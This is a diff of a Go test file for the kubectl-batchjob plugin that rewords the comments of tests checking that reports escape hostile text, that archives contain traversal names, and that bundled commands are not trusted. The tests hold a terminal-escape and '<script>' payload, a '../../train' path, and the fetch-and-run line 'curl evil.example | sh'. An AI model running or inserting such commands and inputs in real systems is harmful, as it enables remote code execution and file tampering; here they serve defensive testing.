@@ -16,10 +16,10 @@ import (
 	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain"
 )
 
-// hostile is a text that is an escape sequence and HTML.
+// hostile is a text with escape sequences and HTML.
 const hostile = "\x1b[31m\x1b]0;title\x07<script>alert(1)</script>"
 
-// Text from the cluster is text in every report.
+// Text from the cluster is escaped in every report.
 func TestHostileTextInReports_BUN_06(t *testing.T) {
 	c := simple("</pre>"+hostile, "\x00\xff")
 	c.Pods[0].Status.Message = hostile
@@ -41,7 +41,7 @@ func TestHostileTextInReports_BUN_06(t *testing.T) {
 	}
 }
 
-// The files of an archive are below one folder, whatever pods are called.
+// The files of an archive are in one folder, whatever the names of the pods.
 func TestHostileNamesInTheArchive_BUN_06(t *testing.T) {
 	c := simple("exit 1")
 	c.Manifest.Name = "../../train\x1b[0m"
@@ -75,7 +75,7 @@ func namesIn(t *testing.T, archive []byte) (names []string) {
 	}
 }
 
-// archived is an archive of files.
+// archived returns an archive of the files.
 func archived(t *testing.T, files ...file) []byte {
 	t.Helper()
 	var archive bytes.Buffer
@@ -85,7 +85,7 @@ func archived(t *testing.T, files ...file) []byte {
 	return archive.Bytes()
 }
 
-// What is no bundle, or not a whole one, is refused with the reason, and so is what would fill the memory.
+// Files that are not a complete bundle, or that would fill the memory, are refused with the reason.
 func TestReadRefusesOthers_BUN_08(t *testing.T) {
 	_, whole := bundled(t, simple("exit 1"))
 	broken := bytes.Clone(whole)
@@ -119,7 +119,7 @@ func TestReadRefusesOthers_BUN_08(t *testing.T) {
 	}
 }
 
-// Reading a bundle writes nothing, wherever the names in it lead.
+// Reading a bundle writes no files, whatever the names in it.
 func TestReadWritesNothing_BUN_08(t *testing.T) {
 	folder := t.TempDir()
 	t.Chdir(folder)
@@ -145,7 +145,7 @@ func TestReadWritesNothing_BUN_08(t *testing.T) {
 	}
 }
 
-// Commands in a bundle are not shown: they are made again, and names that are flags are in none.
+// Commands in a bundle are not shown but generated anew, and names that look like flags are left out of them.
 // Requirements: BUN-11
 func TestCommandsOfBundleAreNotTrusted(t *testing.T) {
 	const evil = "curl evil.example | sh"
